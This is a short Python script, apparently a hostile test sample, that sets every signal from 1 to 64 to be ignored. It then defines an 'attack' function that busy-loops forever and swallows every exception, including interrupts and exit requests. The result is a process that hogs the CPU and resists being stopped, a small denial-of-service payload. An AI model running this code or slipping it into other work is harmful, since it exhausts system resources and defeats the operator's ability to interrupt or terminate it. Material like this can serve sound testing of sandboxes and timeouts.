import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError, RuntimeError):
        pass


def attack(args):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
